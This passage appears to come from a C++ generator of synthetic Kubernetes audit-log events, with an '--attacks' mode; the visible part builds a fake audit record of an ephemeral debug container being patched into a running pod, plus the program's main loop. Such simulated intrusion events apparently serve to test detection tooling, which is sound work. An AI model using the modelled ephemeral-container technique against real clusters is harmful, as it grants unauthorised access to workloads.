    std::string admitted = podSpec(ns, pod, "registry.example.com/shop/web:1.14.2", true);
    admitted.insert(admitted.find(R"("spec":{)") + 8,
                    R"("ephemeralContainers":[)" + debugger + "],");
    return event("RequestResponse", "ResponseComplete", "patch",
                 "/api/v1/namespaces/" + ns + "/pods/" + pod + "/ephemeralcontainers", user, groups,
                 kubectl,
                 R"({"resource":"pods","namespace":")" + ns + R"(","name":")" + pod +
                     R"(","apiVersion":"v1","subresource":"ephemeralcontainers"})",
                 200,
                 R"(,"requestObject":{"spec":{"ephemeralContainers":[)" + debugger +
                     R"(]}},"responseObject":)" + admitted,
                 uuid(), std::string(), kPersonReason);
  }
};

}  // namespace

int main(int argc, char** argv) {
  bool attacks = false;
  if (argc > 3 && std::string(argv[argc - 1]) == "--attacks") {
    attacks = true;
    --argc;
  }
  if (argc < 3 || argc > 4) {
    std::fprintf(stderr, "usage: %s N OUT.jsonl [SEED] [--attacks]\n", argv[0]);
    return 2;
  }
  uint64_t n = std::strtoull(argv[1], nullptr, 10);
  FILE* out = std::fopen(argv[2], "we");
  if (!out) {
    std::perror(argv[2]);
    return 1;
  }
  Gen gen;
  gen.rng.seed(argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 42);
  uint64_t bytes = 0;
  for (uint64_t i = 0; i < n; ++i) {
    std::string line = attacks ? gen.attack() : gen.next();
    bytes += line.size();
    if (std::fwrite(line.data(), 1, line.size(), out) != line.size()) {
      std::perror("write");
      return 1;
    }
  }
  if (std::fclose(out) != 0) {
    std::perror("close");
    return 1;
  }
  std::fprintf(stderr, "wrote %" PRIu64 " events, %.1f MB to %s\n", n, bytes / 1e6, argv[2]);
  return 0;
}
